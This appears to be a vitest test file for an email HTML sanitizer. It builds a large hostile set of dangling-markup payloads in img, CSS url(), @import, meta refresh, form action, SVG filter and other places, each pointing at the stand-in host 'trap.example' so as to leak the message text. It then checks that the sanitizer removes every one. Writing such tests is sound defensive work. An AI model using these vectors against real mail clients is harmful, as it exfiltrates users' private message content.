// @vitest-environment jsdom
/**
 * R14, the large hostile set: every place a URL can sit in a mail, each aimed at a trap address, in every quoting,
 * sanitized with remote content blocked and allowed. Three things must hold for all of them:
 * - no script survives (no <script>, no on* handler, no javascript: URL);
 * - a dangling URL, one that swallows the markup after it up to the next quote and so carries the message's text
 *   to whoever serves it, never survives, not even when the seller allowed remote content;
 * - with remote content allowed, a URL survives only where it is an image or a font: an SVG filter, clip path or
 *   mask would fetch a whole document.
 * The controls prove the checks are not vacuous: the same places with an ordinary image URL keep it when allowed.
 */
import { describe, expect, it } from 'vitest';
import { sanitizeHtml } from './sanitize';

const TRAP = 'https://trap.example';
/** What the dangling URL would carry away: the text that follows it in the message. */
const SECRET = 'Order 302-7777777-1234567 for Jane Roe, 5 Elm Street';

/** The message after the dangling URL: its text, then the first quote of each kind (where the attribute ends). */
function tail(newline: boolean): string {
  const nl = newline ? '\n' : ''; // one line: right after the URL, so an unquoted value runs into it too
  return `${nl}<p>${SECRET}</p>${nl}<p class="sig" title='x'>Best regards</p>${nl}<p>Jane</p>`;
}

type Quote = '"' | "'" | '';
/** Each vector opens a URL (with `q` around it where the syntax has quotes) and never closes it. */
const VECTORS: Record<string, (u: string, q: Quote) => string> = {
  'img src': (u, q) => `<img src=${q}${u}`,
  'img srcset': (u, q) => `<img srcset=${q}${u}`,
  'img srcset, second candidate': (u, q) => `<img srcset=${q}data:image/gif;base64,R0lGOD 1x, ${u}`,
  'table background': (u, q) => `<table background=${q}${u}`,
  'td background': (u, q) => `<table><tr><td background=${q}${u}`,
  'body background': (u, q) => `<body background=${q}${u}`,
  'a href': (u, q) => `<a href=${q}${u}`,
  'area href': (u, q) => `<map name="m"><area shape="rect" coords="0,0,9,9" href=${q}${u}`,
  'style attribute url()': (u, q) => `<div style=${q}background:url(${u}`,
  'style attribute url("")': (u, q) => `<div style=${q}background-image:url(${q === '"' ? "'" : '"'}${u}`,
  'style element url()': (u, q) => `<style>p{background:url(${q}${u}`,
  'style element @font-face': (u, q) => `<style>@font-face{font-family:x;src:url(${q}${u}`,
  'style element @import': (u, q) => `<style>@import url(${q}${u}`,
  'style element image-set': (u, q) => `<style>p{background:image-set(${q}${u}`,
  'style attribute filter': (u, q) => `<div style=${q}filter:url(${u}`,
  'meta refresh': (u, q) => `<meta http-equiv="refresh" content=${q}0;url=${u}`,
  base: (u, q) => `<base href=${q}${u}`,
  'form action': (u, q) => `<form action=${q}${u}`,
  'button formaction': (u, q) => `<form><button formaction=${q}${u}`,
  'link stylesheet': (u, q) => `<link rel="stylesheet" href=${q}${u}`,
  'svg feImage': (u, q) => `<svg><filter id="f"><feImage href=${q}${u}`,
  'svg filter attribute': (u, q) => `<svg><rect width="9" height="9" filter=${q}url(${u}`,
  'svg use': (u, q) => `<svg><use href=${q}${u}`,
  'svg image xlink': (u, q) => `<svg><image xlink:href=${q}${u}`,
  object: (u, q) => `<object data=${q}${u}`,
  embed: (u, q) => `<embed src=${q}${u}`,
  iframe: (u, q) => `<iframe src=${q}${u}`,
  frameset: (u, q) => `<frameset><frame src=${q}${u}`,
  'video poster': (u, q) => `<video poster=${q}${u}`,
  'audio src': (u, q) => `<audio src=${q}${u}`,
  'picture source srcset': (u, q) => `<picture><source srcset=${q}${u}`,
  'image (parsed as img)': (u, q) => `<image src=${q}${u}`,
  'link prefetch': (u, q) => `<link rel="prefetch" href=${q}${u}`,
  'input image': (u, q) => `<input type="image" src=${q}${u}`,
};

interface Variant {
  name: string;
  html: string;
}

function danglingVariants(): Variant[] {
  const out: Variant[] = [];
  for (const [vector, make] of Object.entries(VECTORS)) {
    for (const q of ['"', "'", ''] as Quote[]) {
      for (const newline of [true, false]) {
        // An unquoted value ends at the first whitespace: with a newline there it is an ordinary URL, not dangling.
        if (q === '' && newline) continue;
        const url = `${TRAP}/dangling/${vector.replace(/\W+/g, '-')}?q=`;
        out.push({
          name: `${vector}, quote ${q || 'none'}, ${newline ? 'newline' : 'one line'}`,
          html: `<!doctype html><html><head></head><body><p>Hello</p>${make(url, q)}${tail(newline)}</body></html>`,
        });
      }
    }
  }
  return out;
}

/** Every attribute value and every url() of a style sheet in the sanitized document: where a URL could be. */
function urlPlaces(srcdoc: string): string[] {
  const doc = new DOMParser().parseFromString(srcdoc, 'text/html');
  const places: string[] = [];
  for (const el of doc.querySelectorAll('*')) {
    for (const attr of el.attributes) places.push(attr.value);
    if (el.tagName === 'STYLE') places.push(...(el.textContent ?? '').split(/(?=url\()/i));
  }
  return places;
}

function expectNoScript(srcdoc: string): void {
  expect(srcdoc).not.toMatch(/<script/i);
  expect(srcdoc).not.toMatch(/\son[a-z]+\s*=/i);
  expect(srcdoc).not.toMatch(/javascript:/i);
}

const DANGLING = danglingVariants();

describe('sanitizeHtml over the hostile set: dangling markup (R14)', () => {
  it(`generates a large set (${DANGLING.length} variants)`, () => {
    expect(DANGLING.length).toBeGreaterThanOrEqual(150);
  });

  for (const allowRemote of [false, true]) {
    it(`keeps no dangling URL anywhere, remote content ${allowRemote ? 'allowed' : 'blocked'}`, () => {
      const leaks: string[] = [];
      for (const v of DANGLING) {
        const { srcdoc } = sanitizeHtml(v.html, { allowRemote });
        expectNoScript(srcdoc);
        if (urlPlaces(srcdoc).some((p) => p.includes(TRAP))) leaks.push(v.name);
      }
      expect(leaks).toEqual([]);
    });
  }

  it('drops a URL holding "<", a newline or a quote, wherever it is', () => {
    for (const bad of [`${TRAP}/a?x<b`, `${TRAP}/a?x\nb`, `${TRAP}/a?x\rb`, `${TRAP}/a?x"b`, `${TRAP}/a?x'b`]) {
      const html =
        `<img src="${bad.replace(/"/g, '&quot;')}"><a href="${bad.replace(/"/g, '&quot;')}">l</a>` +
        `<div style="background:url(&quot;${bad.replace(/"/g, '\\22 ')}&quot;)">d</div>`;
      const { srcdoc } = sanitizeHtml(html, { allowRemote: true });
      expect(urlPlaces(srcdoc).filter((p) => p.includes(TRAP))).toEqual([]);
    }
  });
});

/** Ordinary (closed) URLs where an image or a font loads: allowed remote content keeps them. */
const IMAGE_PLACES: Record<string, (u: string) => string> = {
  'img src': (u) => `<img src="${u}">`,
  'img srcset': (u) => `<img srcset="${u} 2x">`,
  'table background': (u) => `<table background="${u}"><tr><td>x</td></tr></table>`,
  'style attribute background': (u) => `<div style="background: #fff url('${u}') no-repeat">x</div>`,
  'style attribute list-style-image': (u) => `<ul style="list-style-image:url(${u})"><li>x</li></ul>`,
  'style element background-image': (u) => `<style>p { color: red; background-image: url("${u}") }</style><p>x</p>`,
  'style element @font-face': (u) => `<style>@font-face { font-family: F; src: url(${u}) format("woff2") }</style>`,
};

/** Places where a URL names a whole document (SVG filter, clip path, mask, cursor): never loaded. */
const DOCUMENT_PLACES: Record<string, (u: string) => string> = {
  'style attribute filter': (u) => `<div style="filter: url(${u}#f)">x</div>`,
  'style attribute -webkit-filter': (u) => `<div style="-webkit-filter:url('${u}#f')">x</div>`,
  'style attribute clip-path': (u) => `<div style="clip-path:url(${u}#c)">x</div>`,
  'style attribute mask': (u) => `<div style="mask: url(${u}#m)">x</div>`,
  'style attribute cursor': (u) => `<div style="cursor: url(${u}), auto">x</div>`,
  'style element filter': (u) => `<style>p { filter: url("${u}#f") }</style><p>x</p>`,
  'style element filter after an image': (u) =>
    `<style>p { background: url(${TRAP}/ok.png); filter: url(${u}#f) }</style><p>x</p>`,
  'style element marker': (u) => `<style>path { marker-start: url(${u}#m) }</style>`,
  'svg filter attribute': (u) => `<svg><rect width="9" height="9" filter="url(${u}#f)"/></svg>`,
  'svg feImage': (u) => `<svg><filter id="f"><feImage href="${u}"/></filter></svg><div style="filter:url(#f)">x</div>`,
};

describe('sanitizeHtml over the hostile set: what allowed remote content may load', () => {
  for (const [place, make] of Object.entries(IMAGE_PLACES)) {
    it(`keeps an image or font URL when allowed and blocks it otherwise: ${place}`, () => {
      const html = make(`${TRAP}/image.png`);
      const allowed = sanitizeHtml(html, { allowRemote: true }).srcdoc;
      expect(urlPlaces(allowed).some((p) => p.includes(`${TRAP}/image.png`))).toBe(true);
      const blocked = sanitizeHtml(html, { allowRemote: false });
      expect(urlPlaces(blocked.srcdoc).some((p) => p.includes(TRAP))).toBe(false);
      expect(blocked.blockedRemote).toBeGreaterThanOrEqual(1);
    });
  }

  for (const [place, make] of Object.entries(DOCUMENT_PLACES)) {
    it(`never keeps a document URL, not even when allowed: ${place}`, () => {
      const html = make(`${TRAP}/document.svg`);
      for (const allowRemote of [true, false]) {
        const { srcdoc } = sanitizeHtml(html, { allowRemote });
        expectNoScript(srcdoc);
        expect(urlPlaces(srcdoc).filter((p) => p.includes(`${TRAP}/document.svg`))).toEqual([]);
      }
    });
  }

  it('lets fonts through the frame CSP only when remote content is allowed', () => {
    expect(sanitizeHtml('<p>x</p>', { allowRemote: true }).srcdoc).toContain('font-src https: http:');
    expect(sanitizeHtml('<p>x</p>', { allowRemote: false }).srcdoc).not.toContain('font-src');
  });
});

describe('sanitizeHtml: a body with nothing left to show', () => {
  it('is empty for a frameset-only document, so the text alternative shows instead', () => {
    const frameset = `<!doctype html><html><head><title>t</title></head><frameset cols="50%,50%">
<frame src="${TRAP}/left"><frame src="${TRAP}/right"><noframes><p>no frames</p></noframes></frameset></html>`;
    expect(sanitizeHtml(frameset, { allowRemote: false }).empty).toBe(true);
    expect(sanitizeHtml(frameset, { allowRemote: true }).empty).toBe(true);
    expect(
      sanitizeHtml('<html><body>\n <iframe src="x"></iframe>&nbsp;</body></html>', { allowRemote: false }).empty,
    ).toBe(true);
  });

  it('is not empty when text or an image is left', () => {
    expect(sanitizeHtml('<p>Thanks!</p>', { allowRemote: false }).empty).toBe(false);
    expect(sanitizeHtml(`<img src="${TRAP}/x.png">`, { allowRemote: false }).empty).toBe(false);
    expect(sanitizeHtml('<img src="cid:logo">', { allowRemote: false }).empty).toBe(false);
  });
});
